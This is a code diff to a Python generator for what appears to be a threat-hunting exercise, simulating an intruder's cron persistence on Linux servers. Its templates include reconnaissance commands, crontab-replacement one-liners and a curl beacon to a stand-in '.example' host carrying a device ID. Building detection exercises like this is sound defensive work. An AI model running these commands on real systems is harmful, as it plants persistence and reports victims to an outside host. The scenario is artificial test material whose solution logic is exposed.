@@ -8,6 +8,7 @@ crontab. Each kind of look-alike lacks exactly one.
 from __future__ import annotations
 
 import re
+from base64 import b64encode
 from dataclasses import dataclass
 from datetime import timedelta
 from typing import TYPE_CHECKING
@@ -30,14 +31,20 @@ _SHELL = "/usr/bin/dash"
 _WORKER = {"web": "php-fpm8.2", "app": "java", "ci": "java"}
 _OPEN = ("/tmp", "/var/tmp", "/dev/shm", "/run/lock")  # noqa: S108  # names in rows, not files
 _NAMES = (
-    "dbus-gc font-unix pulse-rt udisk-sync mandb-idx locale-upd ntp-drift acpi-poll gvfs-map "
-    "ucf-dist systemd-hk apt-xapian journal-rot snap-probe kmod-dep policyd-ref"
-).split()
+    "dbus-gc", "font-unix", "pulse-rt", "udisk-sync", "mandb-idx", "locale-upd", "ntp-drift",
+    "acpi-poll", "gvfs-map", "ucf-dist", "systemd-hk", "apt-xapian", "journal-rot", "snap-probe",
+    "kmod-dep", "policyd-ref",
+)  # fmt: skip
 _FILES = (
-    "refresh rotate reap index compact probe renew flush settle sweep tally verify gather trim"
-).split()
-_HOME_FIRST = "cdn static assets mirror edge pkg sync time files content".split()
-_HOME_SECOND = "relay depot gate hub node stack cache grid shelf yard".split()
+    "refresh", "rotate", "reap", "index", "compact", "probe", "renew", "flush", "settle", "sweep",
+    "tally", "verify", "gather", "trim",
+)  # fmt: skip
+_HOME_FIRST = (
+    "cdn", "static", "assets", "mirror", "edge", "pkg", "sync", "time", "files", "content",
+)  # fmt: skip
+_HOME_SECOND = (
+    "relay", "depot", "gate", "hub", "node", "stack", "cache", "grid", "shelf", "yard",
+)  # fmt: skip
 _JOBS = (
     "{program} >/dev/null 2>&1",
     "nice -n 19 {program}",
@@ -52,6 +59,7 @@ _INSTALLS = (
     "crontab {folder}/.{code8} && rm -f {folder}/.{code8}",
     'crontab -l 2>/dev/null | {{ cat; echo "{when} {job}"; }} | crontab -',
 )
+_LOOKS = ("id", "uname -a", "pwd", "ls -la /tmp", "ps aux", "df -h")
 _PERIODS_MIN = (10, 15, 20, 30, 60, 120, 240)
 
 
@@ -60,6 +68,9 @@ class _Job:
     """A job that cron runs as the account of an application."""
 
     worker: Process
+    source: str
+    """Host name that the program comes from and reports to."""
+
     program: str
     command: str
     installed: datetime
@@ -74,7 +85,7 @@ def _draw(estate: Estate, rng: Generator) -> Plot:
     trail = Trail(rng)
     hosts = some(rng, [h for h in estate.hosts if h.role in _WORKER], 11)
     infected = 1 + int(rng.integers(0, 2))
-    home = f"{one(rng, _HOME_FIRST)}-{one(rng, _HOME_SECOND)}.example"
+    home = _outside(rng)
     total = int(rng.integers(5, 9))
     programs = [
         _intrude(estate, trail, host, home, total // infected + (index < total % infected))
@@ -97,23 +108,12 @@ def _draw(estate: Estate, rng: Generator) -> Plot:
 
 def _intrude(estate: Estate, trail: Trail, host: Host, home: str, runs: int) -> str:
     rng = trail.rng
-    job = _job(estate, trail, host, _in_the_open(rng), runs)
+    job = _job(estate, trail, host, _in_the_open(rng), runs, source=home)
     at = job.installed - timedelta(seconds=int(rng.integers(150, 500)))
-    for index, command in enumerate(
-        some(rng, ("id", "uname -a", "pwd", "ls -la /tmp", "ps aux"), 3)
-    ):
-        seen = at - timedelta(seconds=200 - 31 * index)
-        trail.start(seen, job.worker, _SHELL, f'sh -c "{command} 2>&1"')
-    _fetch(trail, job, at, home)
+    _look_around(trail, job, at)
+    _fetch(trail, job, at)
     _install(trail, job)
-    for shell in _run(trail, job, asked_for=True):
-        program = trail.start(_after(shell, 1), shell, job.program, job.program)
-        trail.start(
-            _after(program, 1),
-            program,
-            "/usr/bin/curl",
-            f"curl -fsS -m 20 https://{home}/{rng.integers(100, 999)}/{host.device_id[:6]}",
-        )
+    _run(trail, job, asked_for=True)
     return job.program
 
 
@@ -123,7 +123,8 @@ def _writes_helper(estate: Estate, trail: Trail, host: Host) -> None:
     program = _in_the_open(rng)
     job = _job(estate, trail, host, program, int(one(rng, (4, 6))), deployed=True)
     at = estate.start + timedelta(seconds=int(rng.integers(9 * 3600, 40 * 3600)))
-    _fetch(trail, job, at, f"releases.{estate.domain}")
+    _look_around(trail, job, at)
+    _fetch(trail, job, at)
     _run(trail, job)
 
 
@@ -134,7 +135,9 @@ def _schedules_itself(estate: Estate, trail: Trail, host: Host) -> None:
     root = {"web": "/var/www", "app": "/opt", "ci": "/srv"}[host.role]
     program = f"{root}/{product}/bin/{one(rng, _FILES)}{rng.integers(1, 9)}"
     job = _job(estate, trail, host, program, int(rng.integers(4, 6)))
-    _fetch(trail, job, job.installed - timedelta(minutes=3), f"releases.{estate.domain}")
+    at = job.installed - timedelta(seconds=int(rng.integers(150, 500)))
+    _look_around(trail, job, at)
+    _fetch(trail, job, at)
     _install(trail, job)
     _run(trail, job)
 
@@ -146,6 +149,7 @@ def _prepared_by_operations(estate: Estate, trail: Trail, host: Host) -> None:
     number = f"{rng.integers(10_000_000, 99_999_999)}.{rng.integers(10, 99)}"
     copy = f"/home/ansible/.ansible/tmp/ansible-tmp-{number}-{rng.integers(1000, 9999)}"
     at = job.installed - timedelta(minutes=5)
+    _look_around(trail, job, at)
     shell = trail.start(
         at,
         daemon(host, "sshd"),
@@ -165,10 +169,25 @@ def _in_the_open(rng: Generator) -> str:
     return f"{folder}/{one(rng, _FILES)}{rng.integers(1, 9)}"
 
 
+def _outside(rng: Generator) -> str:
+    """Return the name of a host that is not the company's."""
+    return f"{one(rng, _HOME_FIRST)}-{one(rng, _HOME_SECOND)}.example"
+
+
 def _job(
-    estate: Estate, trail: Trail, host: Host, program: str, runs: int, *, deployed: bool = False
+    estate: Estate,
+    trail: Trail,
+    host: Host,
+    program: str,
+    runs: int,
+    *,
+    source: str | None = None,
+    deployed: bool = False,
 ) -> _Job:
-    """Return a job that runs until the window ends; a deployed one ran from its begin."""
+    """Return a job that runs until the window ends; a deployed one ran from its begin.
+
+    Its source, if not given, is the company's or a vendor's.
+    """
     rng = trail.rng
     minutes = 48 * 60 // runs if deployed else int(one(rng, _PERIODS_MIN))
     first = estate.end - runs * timedelta(minutes=minutes)
@@ -176,6 +195,7 @@ def _job(
     command = one(rng, _JOBS).format(program=program, folder=folder, file=file)
     return _Job(
         worker=daemon(host, _WORKER[host.role]),
+        source=source or one(rng, (f"releases.{estate.domain}", _outside(rng))),
         program=program,
         command=command,
         installed=first - timedelta(seconds=int(rng.integers(20, 580))),
@@ -185,11 +205,18 @@ def _job(
     )
 
 
-def _fetch(trail: Trail, job: _Job, at: datetime, source: str) -> None:
+def _look_around(trail: Trail, job: _Job, until: datetime) -> None:
+    """Let the worker start the commands of reconnaissance and of diagnostic pages."""
+    for index, command in enumerate(some(trail.rng, _LOOKS, 3)):
+        at = until - timedelta(seconds=200 - 31 * index)
+        trail.start(at, job.worker, _SHELL, f'sh -c "{command} 2>&1"')
+
+
+def _fetch(trail: Trail, job: _Job, at: datetime) -> None:
     """Let a shell below the worker write the program and make it executable."""
     rng, program = trail.rng, job.program
     folder, _, file = program.rpartition("/")
-    url = f"https://{source}/{one(rng, _FILES)}/{rng.integers(10, 999)}"
+    url = f"https://{job.source}/{one(rng, _FILES)}/{rng.integers(10, 999)}"
     command, tool, line = one(
         rng,
         (
@@ -216,11 +243,11 @@ def _install(trail: Trail, job: _Job) -> None:
     """Let a shell below the worker replace its account's crontab."""
     rng, account = trail.rng, job.worker.account
     folder = job.program.rpartition("/")[0]
-    minutes = int(job.period.total_seconds() // 60)
+    when = _schedule(job)
     words = {
-        "when": f"*/{minutes} * * * *" if minutes < 60 else f"0 */{minutes // 60} * * *",
+        "when": when,
         "job": job.command,
-        "code": rng.bytes(21).hex(),
+        "code": b64encode(f"{when} {job.command}\n".encode()).decode(),
         "code8": rng.bytes(4).hex(),
         "folder": folder if folder.startswith(_OPEN) else "/tmp",  # noqa: S108  # not a file of ours
     }
@@ -237,23 +264,31 @@ def _install(trail: Trail, job: _Job) -> None:
     )
 
 
-def _run(trail: Trail, job: _Job, *, asked_for: bool = False) -> list[Process]:
-    """Let cron run the job; return the shells that it starts."""
+def _schedule(job: _Job) -> str:
+    """Return the five fields of a crontab that make the job run when it does."""
+    minutes = int(job.period.total_seconds() // 60)
+    if minutes < 60:
+        return f"{job.first.minute % minutes}-59/{minutes} * * * *"
+    hours = minutes // 60
+    return f"{job.first.minute} {job.first.hour % hours}-23/{hours} * * *"
+
+
+def _run(trail: Trail, job: _Job, *, asked_for: bool = False) -> None:
+    """Let cron run the job, which makes a request and ends."""
     rng, host = trail.rng, job.worker.host
-    shells: list[Process] = []
     for index in range(job.runs):
         late = timedelta(microseconds=int(rng.integers(400_000, 2_200_000)))
-        shells.append(
-            trail.start(
-                job.first + index * job.period + late,
-                daemon(host, "cron"),
-                _SHELL,
-                f'/bin/sh -c "{job.command}"',
-                account=job.worker.account,
-                asked_for=asked_for,
-            )
+        shell = trail.start(
+            job.first + index * job.period + late,
+            daemon(host, "cron"),
+            _SHELL,
+            f'/bin/sh -c "{job.command}"',
+            account=job.worker.account,
+            asked_for=asked_for,
         )
-    return shells
+        program = trail.start(_after(shell, 1), shell, job.program, job.program)
+        request = f"https://{job.source}/{rng.integers(100, 999)}/{host.device_id[:6]}"
+        trail.start(_after(program, 1), program, "/usr/bin/curl", f"curl -fsS -m 20 {request}")
 
 
 def _after(process: Process, steps: int) -> datetime:
@@ -268,12 +303,12 @@ STORY = Story(
     platform="linux",
     difficulty="medium",
     objective=(
-        "Between {start} and {end} UTC an intruder executed commands through the application on one "
-        "or more Linux servers, fetched a program of their own, and had the scheduler run it again "
-        "and again under the application's account. Scheduled jobs of such accounts are common on "
-        "this estate, those that applications set up by themselves included. Find the implanted "
-        "job or jobs: the query must return every process start with which the cron daemon ran an "
-        "implanted job, on all hosts concerned, and no run of a legitimate one."
+        "Between {start} and {end} UTC an intruder executed commands through the application on "
+        "one or more Linux servers, fetched a program of their own, and had the scheduler run it "
+        "again and again under the application's account. Scheduled jobs of such accounts are "
+        "common on this estate, those that applications set up by themselves included. Find the "
+        "implanted job or jobs: the query must return every process start with which the cron "
+        "daemon ran an implanted job, on all hosts concerned, and no run of a legitimate one."
     ),
     report_ids=frozenset({"core-linux-cron-persistence"}),
     techniques=frozenset({"T1053.003", "T1505.003", "T1105"}),
